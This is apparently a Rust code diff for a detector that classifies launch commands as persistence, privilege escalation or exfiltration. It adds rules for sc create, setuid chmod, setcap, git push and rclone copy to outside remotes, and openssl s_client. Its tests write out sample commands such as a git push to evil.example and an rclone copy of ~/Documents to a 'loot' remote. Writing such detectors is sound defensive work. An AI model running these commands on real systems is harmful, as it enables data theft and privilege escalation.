@@ -73,6 +73,7 @@ const AUTOSTART_DIRS: &[&str] = &[
     "/etc/profile.d",
     "/programs/startup",
     "currentversion/run",
+    ".git/hooks/",
 ];
 
 /// The first finding of each kind, for the words of a launch.
@@ -157,6 +158,12 @@ const KNOWN: &[&str] = &[
     "bore",
     "localtunnel",
     "cloudflared",
+    "sc",
+    "chmod",
+    "setcap",
+    "git",
+    "rclone",
+    "openssl",
 ];
 
 /// What `cmd` does, given its words so far (`ws[0]` is the command, the last is new).
@@ -200,6 +207,24 @@ fn judge(cmd: &str, ws: &[Word]) -> Option<(Kind, String)> {
             exf("exposes this machine's services to the internet")
         }
         "cloudflared" if w == "tunnel" => exf("exposes this machine's services to the internet"),
+        "sc" if matches!(lower.as_str(), "create" | "config") => {
+            Some((Kind::Persistence, "installs a Windows service".into()))
+        }
+        "chmod" if setuid_mode(w) => Some((
+            Kind::Escalation,
+            "sets the set-user-ID or set-group-ID bit".into(),
+        )),
+        "setcap" if ws.len() == 2 => Some((
+            Kind::Escalation,
+            "grants a program kernel capabilities".into(),
+        )),
+        "git" if ws.iter().any(|x| x.0 == "push") && (w.contains("://") || remote_operand(w)) => {
+            exf("pushes the repository to an address the launch names")
+        }
+        "rclone" if remote_operand(w) && ws.len() > 2 => exf("copies files to a cloud remote"),
+        "openssl" if matches!(w, "s_client" | "s_server") => {
+            exf("opens a raw TLS connection to another machine")
+        }
         "kubectl" | "oc" if matches!(w, "exec" | "attach" | "cp" | "port-forward" | "debug") => {
             exf("runs commands or copies files in a cluster")
         }
@@ -219,6 +244,17 @@ fn startup_location(w: &str) -> Option<&'static str> {
         .iter()
         .any(|d| p.contains(d) || p.ends_with(d.trim_start_matches('/')))
         .then_some("is an autostart place: what is put there runs at every login or boot")
+}
+
+/// A chmod mode that sets the set-user-ID or set-group-ID bit: `4755`, `2755`, `u+s`, `+s`.
+fn setuid_mode(w: &str) -> bool {
+    let octal = w.len() == 4
+        && w.bytes().all(|b| (b'0'..=b'7').contains(&b))
+        && matches!(w.as_bytes()[0], b'2' | b'4' | b'6');
+    let symbolic = !w.starts_with('-')
+        && w.contains('+')
+        && w.split('+').nth(1).is_some_and(|p| p.contains('s'));
+    octal || symbolic
 }
 
 /// `nc -e PROG`, `-c CMD`, `--exec`, `--sh-exec`, `--lua-exec`, or a cluster such as `-lve`.
@@ -312,6 +348,17 @@ mod tests {
         assert!(j(&["docker", "-H", "unix:///run/user/1000/docker.sock"]).is_none());
         assert!(j(&["schtasks", "/Create"]) == Some(Kind::Persistence));
         assert!(j(&["schtasks", "/Query"]).is_none());
+        assert!(j(&["sc.exe", "create"]) == Some(Kind::Persistence));
+        assert!(j(&["chmod", "4755"]) == Some(Kind::Escalation));
+        assert!(j(&["chmod", "u+s"]) == Some(Kind::Escalation));
+        assert!(j(&["chmod", "755"]).is_none());
+        assert!(j(&["setcap", "cap_setuid+ep"]) == Some(Kind::Escalation));
+        assert!(j(&["git", "push", "https://evil.example/x.git"]) == Some(Kind::Exfiltration));
+        assert!(j(&["git", "push", "origin"]).is_none());
+        assert!(j(&["rclone", "copy", "~/Documents", "loot:bucket"]) == Some(Kind::Exfiltration));
+        assert!(j(&["rclone", "copy", "./a", "./b"]).is_none());
+        assert!(j(&["openssl", "s_client"]) == Some(Kind::Exfiltration));
+        assert!(j(&["openssl", "dgst"]).is_none());
     }
 
     #[test]
